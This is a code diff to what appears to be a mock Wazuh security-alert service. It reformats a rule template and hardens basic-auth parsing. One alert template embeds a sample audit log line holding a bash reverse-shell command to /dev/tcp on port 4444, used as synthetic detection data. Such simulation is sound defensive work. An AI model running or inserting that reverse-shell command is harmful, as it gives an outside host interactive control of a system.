@@ -53,7 +53,8 @@ RULES: list[tuple[str, int, str, list[str], str, str]] = [
      '{ip} - - [{ts}] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0"'),
     ("100210", 12, "Possible reverse shell spawned by a web process.",
      ["local", "attack", "audit"], "auditd",
-     "type=EXECVE msg=audit({epoch}): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/{ip}/4444\""),
+     "type=EXECVE msg=audit({epoch}): argc=3 a0=\"bash\" a1=\"-c\" "
+     "a2=\"bash -i >& /dev/tcp/{ip}/4444\""),
 ]
 SOURCE_IPS = ["203.0.113.7", "198.51.100.23", "192.0.2.45", "203.0.113.88"]
 USERS = ["admin", "oracle", "ubuntu", "test", "git"]
@@ -239,7 +240,7 @@ class WazuhService(Service):
                                   "error": 0})
 
     async def authenticate(self, request: web.Request) -> web.Response:
-        user, password = _basic(request)
+        user, password = _basic(request) or ("", "")
         if user != self.api_user or password != self.api_password:
             return _unauthorized("Invalid credentials")
         header = base64.urlsafe_b64encode(b'{"alg":"ES512","typ":"JWT"}').rstrip(b"=").decode()
